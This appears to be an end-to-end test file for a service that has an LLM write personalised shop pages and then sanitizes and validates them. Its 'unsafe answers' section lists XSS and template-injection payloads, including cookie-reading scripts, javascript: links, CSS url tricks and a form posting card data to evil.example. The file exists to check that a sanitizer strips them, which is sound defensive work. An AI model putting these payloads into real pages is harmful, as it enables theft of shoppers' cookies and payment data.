import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { expandProductSlots, productSlot, splitProductSlots } from "../../core/product-slots.ts";
import type { Persona } from "../../core/types.ts";
import { GOOD_HANDLES, PRODUCTS, generateBody, pageWith, selectionOf } from "../test/fixtures.ts";
import { startGenerator, type RunningGenerator } from "../test/harness.ts";
import { answer, hang, stallBody, startMockLlm, status, type MockLlm } from "../test/mock-llm.ts";

/**
 * The generation pipeline end to end: HTTP request → real Express app → real openai SDK → an
 * OpenAI-compatible server on 127.0.0.1 → the page that is cached. That page keeps canonical product
 * slots; where the cards a shopper sees matter, the test expands them as the edge does.
 */

let llm: MockLlm;
let generator: RunningGenerator;

beforeAll(async () => {
  llm = await startMockLlm();
  generator = await startGenerator({ LLM_API_KEY: "test-key", LLM_BASE_URL: llm.baseUrl, LLM_TIMEOUT_MS: "5000", LLM_MAX_RETRIES: "2" });
});
afterAll(async () => {
  await generator.close();
  await llm.close();
});

/** The product cards on a page, by handle (core's card carries data-wand-product). */
function cardHandles(html: string): string[] {
  return [...html.matchAll(/<article class="card" data-wand-product="([^"]+)"/g)].map((m) => m[1]!);
}

/** The canonical product slots of a generated page, by handle. */
function slotHandles(html: string): string[] {
  return splitProductSlots(html).slots.map((s) => s.handle);
}

/** The page as the edge serves it: slots expanded into cards from the products' live facts. */
function served(html: string, persona: Persona, baseUrl = ""): string {
  return expandProductSlots(html, { products: PRODUCTS, persona, baseUrl }).html;
}

function cardOf(html: string, handle: string): string {
  const start = html.indexOf(`data-wand-product="${handle}"`);
  expect(start, `card ${handle}`).toBeGreaterThan(-1);
  return html.slice(start, html.indexOf("</article>", start));
}

describe("a good answer", () => {
  it("becomes an LLM page with the selection's product slots inside the page shell", async () => {
    llm.script(answer(pageWith(GOOD_HANDLES), { usage: { prompt_tokens: 2345, completion_tokens: 678 } }));
    const { status: code, result } = await generator.generate(generateBody("explorer"));

    expect(code).toBe(200);
    expect(result.source).toBe("llm");
    expect(result.fallback).toBeNull();
    expect(result.model).toBe("moonshot-v1-32k");
    expect(result.usage).toEqual({ promptTokens: 2345, completionTokens: 678 });
    expect(result.warnings).toEqual([]);
    expect(result.durationMs).toBeGreaterThanOrEqual(0);

    const html = result.html;
    expect(html.startsWith("<!DOCTYPE html>")).toBe(true);
    expect(html).toContain('http-equiv="Content-Security-Policy"');
    expect(html).toContain('data-wand-source="llm"');
    expect(html).toContain('data-wand-persona="explorer"');
    for (const slot of ["greeting", "recently-viewed", "loyalty-note"]) expect(html).toContain(`data-wand-slot="${slot}"`);
    expect(html).toContain("Fresh finds for curious minds");
    expect(html).toContain("<title>Fresh finds for curious minds | Demo Apparel</title>");
    // Slots in the canonical form, no cards and no product fact: those come at serve time.
    expect(slotHandles(html)).toEqual(GOOD_HANDLES);
    for (const h of GOOD_HANDLES) expect(html).toContain(`<li>${productSlot(h)}</li>`);
    expect(cardHandles(html)).toEqual([]);
    expect(html).not.toMatch(/\$\d|<form/);
    // Links stay relative by default: one cached page serves the proxy and the direct route.
    expect(html).toContain('<a href="/collections/all">');
    const page = served(html, "explorer");
    expect(cardHandles(page)).toEqual(GOOD_HANDLES);
    expect(cardOf(page, "classic-tee")).toContain('action="/cart/add"');
    expect(cardOf(page, "classic-tee")).toContain('href="/products/classic-tee"');
  });

  it("calls the model with the key, the model name, a bounded max_tokens and the selection as data", async () => {
    llm.script(answer(pageWith(GOOD_HANDLES)));
    await generator.generate(generateBody("dealhunter"));

    expect(llm.requests).toHaveLength(1);
    const request = llm.requests[0]!;
    expect(request.authorization).toBe("Bearer test-key");
    expect(request.body.model).toBe("moonshot-v1-32k");
    expect(request.body.max_tokens).toBeGreaterThan(1000);
    expect(request.body.max_tokens).toBeLessThanOrEqual(8192);
    const [system, user] = request.body.messages ?? [];
    expect(system?.role).toBe("system");
    expect(system?.content).toContain('<wand-product handle="HANDLE"></wand-product>');
    expect(user?.content).toContain("dealhunter");
    expect(user?.content).toMatch(/<catalog_data>[\s\S]*"handle":"classic-tee"[\s\S]*<\/catalog_data>/);
    expect(user?.content).toContain('"title":"Picked for you","handles":["classic-tee","linen-shirt","wool-scarf"]');
    // Merchandising only: no price reaches the model (the cards show it, always current).
    expect(user?.content).not.toMatch(/25\.00|"price"|onSale|"available"/);
  });

  it("gives a slot its group's badge and drops a product outside the selection", async () => {
    const selection = selectionOf("loyalist", PRODUCTS.slice(0, 4), [
      { id: "new", title: "New arrivals", handles: ["classic-tee", "linen-shirt"], badge: "New" },
      { id: "again", title: "More to love", handles: ["wool-scarf", "canvas-tote"] },
    ]);
    llm.script(answer(pageWith([...GOOD_HANDLES, "rain-jacket"])));
    const { result } = await generator.generate({ ...generateBody("loyalist"), selection });
    expect(result.source).toBe("llm");
    expect(result.html).toContain(productSlot("classic-tee", "New"));
    expect(result.html).toContain(productSlot("wool-scarf"));
    expect(slotHandles(result.html)).toEqual(GOOD_HANDLES);
    expect(result.warnings).toContain("dropped unknown product handles: rain-jacket");
    expect(served(result.html, "loyalist").split('<span class="badge">New</span>').length - 1).toBe(2);
  });

  it("logs one structured line per generation", async () => {
    llm.script(answer(pageWith(GOOD_HANDLES)));
    const before = generator.logs.length;
    await generator.generate(generateBody("minimalist"));
    const lines = generator.logs.slice(before).map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatchObject({ event: "generation", store: "demo-apparel", persona: "minimalist", source: "llm", productsPlaced: 4, promptTokens: 1200 });
  });

  it("writes absolute links when the request carries the shop's base URL", async () => {
    llm.script(answer(pageWith(GOOD_HANDLES)));
    const { result } = await generator.generate(generateBody("explorer", { baseUrl: "https://demo-apparel.myshopify.com" }));
    expect(result.source).toBe("llm");
    expect(result.html).toContain('<a href="https://demo-apparel.myshopify.com/collections/all">');
    expect(cardOf(served(result.html, "explorer", "https://demo-apparel.myshopify.com"), "wool-scarf")).toContain('action="https://demo-apparel.myshopify.com/cart/add"');
  });
});

describe("answers that need cleaning", () => {
  it("takes the page out of code fences and drops the prose around it", async () => {
    const content = `Sure! Here is a page for an explorer:\n\n\`\`\`html\n${pageWith(GOOD_HANDLES)}\n\`\`\`\n\nLet me know if you want changes.`;
    llm.script(answer(content));
    const { result } = await generator.generate(generateBody("explorer"));
    expect(result.source).toBe("llm");
    expect(result.html).not.toContain("Sure! Here is");
    expect(result.html).not.toContain("Let me know");
    expect(result.html).not.toContain("```");
    expect(slotHandles(result.html)).toEqual(GOOD_HANDLES);
  });

  it("takes the body of a whole document", async () => {
    const content = `<!DOCTYPE html><html><head><title>Deals & steals</title><meta charset="utf-8"><style>.x{color:var(--wand-accent);}</style></head><body>${pageWith(GOOD_HANDLES)}</body></html>`;
    llm.script(answer(content));
    const { result } = await generator.generate(generateBody("dealhunter"));
    expect(result.source).toBe("llm");
    expect(result.html).toContain("<title>Deals &amp; steals | Demo Apparel</title>");
    expect(result.html).toContain(".x{color:var(--wand-accent);}");
    expect(result.html.match(/<html/g)).toHaveLength(1);
  });

  it("drops invented handles and keeps the page when enough real products remain", async () => {
    llm.script(answer(pageWith(["classic-tee", "golden-unicorn", "linen-shirt", "wool-scarf", "free-iphone"])));
    const { result } = await generator.generate(generateBody("explorer"));
    expect(result.source).toBe("llm");
    expect(slotHandles(result.html)).toEqual(["classic-tee", "linen-shirt", "wool-scarf"]);
    expect(result.html).not.toContain("golden-unicorn");
    expect(result.html).not.toContain("free-iphone");
    expect(result.warnings).toContain("dropped unknown product handles: golden-unicorn, free-iphone");
  });

  it("falls back to the template when fewer than three real products remain", async () => {
    llm.script(answer(pageWith(["classic-tee", "golden-unicorn", "linen-shirt", "magic-hat"])));
    const { result } = await generator.generate(generateBody("explorer"));
    expect(result.source).toBe("template");
    expect(result.fallback).toBe("answer_unusable");
    expect(result.html).toContain('data-wand-source="template"');
    expect(result.warnings.some((w) => w.includes("only 2 catalog products placed"))).toBe(true);
  });

  it("shows the catalog's price and variant whatever price the model wrote", async () => {
    const fakes = `<div class="card"><h3 class="card-title">Classic Tee</h3><span class="price">$2.00</span></div>
<style>.promo::after{content:"$3.00";}</style>`;
    const items = `<ul class="grid">
<li><wand-product handle="classic-tee" price="1.00" title="Classic Tee for $1">Classic Tee, now only $1.00! <form action="/cart/add"><input name="id" value="999"></form></wand-product></li>
<li><wand-product handle="linen-shirt" data-price="5.00"/></li>
<li><wand-product handle="wool-scarf">Wool Scarf <s>$45</s> $9.99</wand-product></li>
</ul>`;
    llm.script(answer(`<h1>Deals</h1>${fakes}${items}`));
    const { result } = await generator.generate(generateBody("dealhunter"));

    expect(result.source).toBe("llm");
    expect(slotHandles(result.html)).toEqual(["classic-tee", "linen-shirt", "wool-scarf"]);
    for (const fake of ["$1.00", "$9.99", "$3.00", 'value="999"', "Classic Tee for $1", "data-price"]) expect(result.html).not.toContain(fake);
    const html = served(result.html, "dealhunter");
    expect(cardHandles(html)).toEqual(["classic-tee", "linen-shirt", "wool-scarf"]);
    const tee = cardOf(html, "classic-tee");
    expect(tee).toContain("$25.00");
    expect(tee).toContain("$35.00");
    expect(tee).toContain('name="id" value="40001"');
    expect(cardOf(html, "linen-shirt")).toContain("$60.00");
    expect(cardOf(html, "wool-scarf")).toContain("$30.00");
    for (const fake of ["$1.00", "$9.99", "$3.00", 'value="999"', "Classic Tee for $1", "data-price"]) expect(html).not.toContain(fake);
    // The model's look-alike card loses the card classes: the only "price" elements are the catalog's.
    expect(html.match(/class="price"/g)).toHaveLength(3);
    expect(html.match(/<article class="card"/g)).toHaveLength(3);
    expect(html.match(/<form\b/g)).toHaveLength(3);
  });
});

describe("unsafe answers", () => {
  const withProducts = (payload: string) => pageWith(GOOD_HANDLES.slice(0, 3), payload);
  // What must not be on the page a shopper gets, for each payload the model (or a poisoned catalog) might emit.
  const corpus: { name: string; payload: string; forbidden: RegExp[] }[] = [
    { name: "script element", payload: `<script>alert(document.cookie)</script><p>after</p>`, forbidden: [/<script/i, /alert\(/] },
    { name: "svg onload", payload: `<svg onload="alert(1)"><circle r="5"/></svg><svg/onload=alert(2)>`, forbidden: [/<svg/i, /onload/i, /alert/] },
    { name: "img onerror", payload: `<img src="x" onerror="alert(1)">`, forbidden: [/onerror/i, /<img src="x"/] },
    { name: "event handler on allowed tag", payload: `<p onclick="alert(1)" onmouseover="alert(2)">hover</p>`, forbidden: [/onclick|onmouseover/i, /alert/] },
    { name: "javascript: link", payload: `<a href="javascript:alert(1)">win</a><a href=" JaVaScRiPt:alert(2)">x</a><a href="&#106;avascript:alert(3)">y</a>`, forbidden: [/javascript:/i, /alert/] },
    { name: "data: and external links", payload: `<a href="data:text/html,<script>alert(1)</script>">d</a><a href="https://evil.example/phish">e</a><a href="//evil.example">f</a><a href="/\\evil.example">g</a>`, forbidden: [/data:text/i, /evil\.example/, /alert/] },
    { name: "CSS expression", payload: `<style>.a{width:expression(alert(1));}</style><p style="width:expression(alert(2))">x</p>`, forbidden: [/expression/i, /alert/] },
    { name: "CSS url(javascript:)", payload: `<style>.b{background:url(javascript:alert(1));}</style><div style="background-image:url('javascript:alert(2)')">y</div>`, forbidden: [/url\(/i, /javascript/i, /alert/] },
    { name: "CSS external url, @import and escapes", payload: `<style>@import url(https://evil.example/a.css); @import "https://evil.example/b.css"; .c{background:\\75 rl(https://evil.example/t.gif);} @font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>`, forbidden: [/evil\.example/, /@import/i, /url\(/i, /@font-face/i] },
    { name: "style breakout", payload: `<style>.d{color:red}</style><script>alert(1)</script></style></style><style>.e{}</style ><img src=x onerror=alert(2)></style>`, forbidden: [/<script/i, /alert/, /onerror/i] },
    { name: "iframe srcdoc", payload: `<iframe srcdoc="<script>alert(1)</script>"></iframe><div srcdoc="x">z</div>`, forbidden: [/srcdoc/i, /<iframe/i, /alert/] },
    { name: "meta refresh", payload: `<meta http-equiv="refresh" content="0;url=https://evil.example/">`, forbidden: [/http-equiv="refresh"/i, /evil\.example/] },
    { name: "object, embed, link and base", payload: `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y"><link rel="stylesheet" href="https://evil.example/z.css"><base href="https://evil.example/">`, forbidden: [/<object|<embed|<base/i, /evil\.example/] },
    { name: "forms to elsewhere", payload: `<form action="https://evil.example/steal" method="post"><input name="card"><button>Pay</button></form>`, forbidden: [/evil\.example/, /name="card"/, />Pay</] },
    { name: "Liquid output", payload: `<p>Hello {{ customer.email }}</p><p title="{{ shop.secret }}">t</p>`, forbidden: [/\{\{/, /\}\}/] },
    { name: "Liquid tags", payload: `<p>{% if customer %}{{ customer.first_name }}{% endif %}</p><style>.f{color:red}}</style>`, forbidden: [/\{%/, /%\}/, /\{\{/] },
  ];

  it.each(corpus)("neutralises $name", async ({ payload, forbidden }) => {
    llm.script(answer(withProducts(payload)));
    const { result } = await generator.generate(generateBody("explorer"));
    // The payload is removed, the rest of the page survives.
    expect(result.source).toBe("llm");
    expect(slotHandles(result.html)).toHaveLength(3);
    const page = served(result.html, "explorer");
    for (const pattern of forbidden) {
      expect(result.html).not.toMatch(pattern);
      expect(page).not.toMatch(pattern);
    }
    // Whatever the model wrote, the only forms on the page are the catalog cards' add-to-cart forms.
    expect(result.html).not.toContain("<form");
    const actions = [...page.matchAll(/<form\b[^>]*action="([^"]*)"/g)].map((m) => m[1]);
    expect(actions).toEqual(["/cart/add", "/cart/add", "/cart/add"]);
    expect(result.html).toContain('http-equiv="Content-Security-Policy"');
  });

  it("keeps a page whose only 'markup' is escaped text in attributes and text nodes", async () => {
    // Text the sanitizer already made inert: the safety re-check reads the parsed tree, so these
    // characters can never turn an LLM page into a template.
    const payload =
      `<p title="&lt;img src=x onerror=alert(1)&gt;">Tips &lt;script&gt;alert(1)&lt;/script&gt; and javascript:void(0) as plain text</p>` +
      `<p>Use &lt;wand-product handle="x"&gt; &amp; friends; url(https://evil.example) is only words here.</p>`;
    llm.script(answer(withProducts(payload)));
    const { result } = await generator.generate(generateBody("explorer"));
    expect(result.source).toBe("llm");
    expect(result.fallback).toBeNull();
    expect(result.html).toContain('title="&lt;img src=x onerror=alert(1)&gt;"');
    expect(result.html).toContain("Tips &lt;script&gt;alert(1)&lt;/script&gt;");
    expect(slotHandles(result.html)).toHaveLength(3);
  });

  it("neutralises the whole corpus at once", async () => {
    llm.script(answer(withProducts(corpus.map((c) => c.payload).join("\n"))));
    const { result } = await generator.generate(generateBody("loyalist"));
    expect(result.source).toBe("llm");
    for (const { forbidden } of corpus) for (const pattern of forbidden) expect(result.html).not.toMatch(pattern);
    expect(result.warnings.join(" ")).toContain("removed disallowed elements");
  });
});

describe("failures degrade to the template page", () => {
  it("an empty answer", async () => {
    llm.script(answer("   "));
    const { status: code, result } = await generator.generate(generateBody("minimalist"));
    expect(code).toBe(200);
    expect(result.source).toBe("template");
    expect(result.fallback).toBe("answer_unusable");
    expect(result.model).toBe("moonshot-v1-32k");
    expect(result.warnings).toContain("empty answer");
    expect(result.html).toContain('data-wand-source="template"');
    expect(result.html).toContain('data-wand-persona="minimalist"');
  });

  it("an answer without HTML", async () => {
    llm.script(answer("I am sorry, I cannot help with that."));
    const { result } = await generator.generate(generateBody("minimalist"));
    expect(result.source).toBe("template");
    expect(result.warnings).toContain("answer contains no HTML");
  });

  it("retries a 429 and then succeeds", async () => {
    llm.script(status(429), answer(pageWith(GOOD_HANDLES)));
    const { result } = await generator.generate(generateBody("explorer"));
    expect(llm.requests).toHaveLength(2);
    expect(result.source).toBe("llm");
    expect(result.fallback).toBeNull();
    expect(slotHandles(result.html)).toEqual(GOOD_HANDLES);
  });

  it("gives up after the configured retries of a 500", async () => {
    llm.script(status(500));
    const { status: code, result } = await generator.generate(generateBody("explorer"));
    expect(code).toBe(200);
    expect(llm.requests).toHaveLength(3);
    expect(result.source).toBe("template");
    expect(result.warnings).toContain("llm answered HTTP 500 after 3 attempts");
    expect(result.fallback).toBe("llm_error");
    expect(slotHandles(result.html).length).toBeGreaterThan(0);
  });

  it("does not retry a 401", async () => {
    llm.script(status(401));
    const { result } = await generator.generate(generateBody("explorer"));
    expect(llm.requests).toHaveLength(1);
    expect(result.source).toBe("template");
    expect(result.warnings).toContain("llm answered HTTP 401");
    expect(result.fallback).toBe("llm_error");
  });

  it("a model that never answers: template page once the timeout has passed", async () => {
    const hanging = await startMockLlm();
    hanging.script(hang);
    const impatient = await startGenerator({ LLM_API_KEY: "k", LLM_BASE_URL: hanging.baseUrl, LLM_TIMEOUT_MS: "300", LLM_MAX_RETRIES: "0" });
    try {
      const { status: code, result } = await impatient.generate(generateBody("loyalist"));
      expect(code).toBe(200);
      expect(result.source).toBe("template");
      expect(result.warnings).toContain("llm timed out after 1 attempt");
      expect(result.fallback).toBe("llm_timeout");
      expect(hanging.requests).toHaveLength(1);
    } finally {
      await impatient.close();
      await hanging.close();
    }
  });

  it("retries that would outlast the deadline: template page at the deadline", async () => {
    const hanging = await startMockLlm();
    hanging.script(hang);
    const bounded = await startGenerator({ LLM_API_KEY: "k", LLM_BASE_URL: hanging.baseUrl, LLM_TIMEOUT_MS: "400", LLM_DEADLINE_MS: "600", LLM_MAX_RETRIES: "5" });
    try {
      const { result } = await bounded.generate(generateBody("explorer"));
      expect(result.source).toBe("template");
      expect(result.warnings).toContain("llm gave no complete answer within 600 ms");
      expect(result.fallback).toBe("llm_timeout");
      expect(hanging.requests.length).toBeLessThan(6);
    } finally {
      await bounded.close();
      await hanging.close();
    }
  });

  it("a model that stalls after the headers: template page once the timeout has passed", async () => {
    const stalling = await startMockLlm();
    stalling.script(stallBody);
    const impatient = await startGenerator({ LLM_API_KEY: "k", LLM_BASE_URL: stalling.baseUrl, LLM_TIMEOUT_MS: "300", LLM_MAX_RETRIES: "0" });
    try {
      const { result } = await impatient.generate(generateBody("explorer"));
      expect(result.source).toBe("template");
      expect(result.warnings).toContain("llm timed out after 1 attempt");
      expect(result.fallback).toBe("llm_timeout");
    } finally {
      await impatient.close();
      await stalling.close();
    }
  });

  it("a caller that goes away cancels the LLM call", async () => {
    const hanging = await startMockLlm();
    hanging.script(hang);
    const patient = await startGenerator({ LLM_API_KEY: "k", LLM_BASE_URL: hanging.baseUrl, LLM_TIMEOUT_MS: "600000", LLM_DEADLINE_MS: "600000", LLM_MAX_RETRIES: "0" });
    try {
      const call = fetch(`${patient.url}/generate`, {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify(generateBody("explorer")),
        signal: AbortSignal.timeout(300),
      });
      await expect(call).rejects.toThrow();
      // The generation still ends (with its log line) instead of waiting ten minutes for the model.
      await expect.poll(() => patient.logs.length, { timeout: 10_000 }).toBe(1);
      expect(JSON.parse(patient.logs[0]!)).toMatchObject({ event: "generation", source: "template", warnings: ["generation cancelled: the caller went away"] });
    } finally {
      await patient.close();
      await hanging.close();
    }
  });

  it("a selection too small for a page never reaches the model", async () => {
    llm.script(answer(pageWith(GOOD_HANDLES)));
    const small = selectionOf("explorer", PRODUCTS.slice(0, 2));
    const { result } = await generator.generate({ ...generateBody("explorer"), selection: small });
    expect(result.source).toBe("template");
    expect(result.fallback).toBe("answer_unusable");
    expect(result.warnings).toContain("the selection holds 2 products; a page needs at least 3");
    expect(llm.requests).toHaveLength(0);
    expect(result.model).toBe("none");
    expect(slotHandles(result.html)).toEqual(["classic-tee", "linen-shirt"]);
  });
});
